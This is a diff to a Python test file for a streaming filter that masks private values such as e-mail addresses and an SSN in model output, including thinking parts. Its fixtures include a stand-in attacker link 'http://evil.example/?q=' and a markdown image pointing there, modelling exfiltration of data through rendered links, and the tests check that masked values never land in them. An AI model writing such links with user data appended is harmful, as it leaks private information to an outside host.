@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import time
 from collections.abc import Callable
 
 import pytest
@@ -170,11 +171,17 @@ async def test_a_part_is_shown_while_it_comes_although_the_one_before_has_not_be
 ADDRESS = "see http://evil.example/?q="
 NOT_BACK: dict[str, list[Json]] = {
     "begun by itself": [text(ADDRESS), thinking("hm "), text("~ now")],
-    "begun by what came between": [text("So. "), thinking(ADDRESS), text("~ now")],
+    "begun by what came between": [text("So. ", index=0), text(ADDRESS, index=1), text("~ now", index=0)],
     "begun in between, and another came": [
         text("So. ", index=0), text("Hm. ", index=1), text(ADDRESS, index=0), text("x", index=2), text("~", index=1)
     ],
-    "not clear": [text("So. "), thinking("<a href='x' "), thinking("y" * 129), text("~ now")],
+    "not clear": [
+        text("So. ", index=0), text("<a href='x' ", index=1), text("y" * 129, index=2), text("~ now", index=0)
+    ],
+    "told with its end": [text("![x](http://evil.example/?q=~", index=0), text("~ b", index=1)],
+    "begun by what is put in for a value": [
+        text("!", index=0), text(SSN, index=0), text("(", index=1), text("~ )", index=1)
+    ],
     "listed before": [
         text("", index=0), text("", index=1), text(ADDRESS, index=0), text("~", index=1)
     ],
@@ -191,6 +198,35 @@ async def test_an_address_that_a_reader_may_see_before_it_takes_no_value_in(shap
     out = sent("openai", [*chunks, openai({}, "stop")], masks, POLICIES["planted"])
     assert MAIL not in json.dumps(out)
     assert placeholder in "".join(texts(out).values())
+
+
+async def test_thoughts_that_end_with_a_value_hold_up_no_text_behind_them() -> None:
+    masks, placeholder = await asked()
+    parts = [thinking(f"I will mail {placeholder}."), *(text(f"{word} {placeholder} ") for word in ("To", "and", "or"))]
+    out = steps("openai", [*map(listed, parts), openai({}, "stop")], masks, POLICIES["planted"])
+    shown = [texts(some).get(1, texts(some).get(0, "")) for some in out[1:4]]
+    assert shown == [f"{word} {MAIL} " for word in ("To", "and", "or")]
+
+
+async def test_a_part_behind_one_whose_end_is_not_clear_comes_at_once_with_its_placeholders() -> None:
+    masks, placeholder = await asked()
+    parts = [text(f"you are {placeholder}.", index=0), text("this is ", index=1), text(f"{placeholder} ", index=1)]
+    out = steps("openai", [*map(listed, parts), openai({}, "stop")], masks, POLICIES["planted"])
+    assert "".join(texts(some).get(1, "") for some in out[1:3]) == f"this is {placeholder} "
+
+
+async def test_very_many_parts_that_say_nothing_hold_up_nobody() -> None:
+    """Each piece asked for its place behind all of them: half a minute for four thousand parts."""
+    masks, _ = await asked()
+    walker = walker_of("openai", masks, POLICIES["planted"])
+    walker.take(listed(text("see docs.python.org", index=0)))
+    many = range(1, 3_000)
+    walker.take(openai({"content": [text("", index=at) for at in many]}))
+    began = time.process_time()
+    walker.take(openai({"content": [text("x. ", index=at) for at in reversed(many)]}))
+    assert time.process_time() - began < 2.5
+    walker.take(openai({}, "stop"))
+    assert list(texts(walker.drain()).values())[1:] == ["x. "] * len(many)
 
 
 async def test_where_what_is_held_may_open_something_the_next_part_waits_until_it_is_known() -> None:
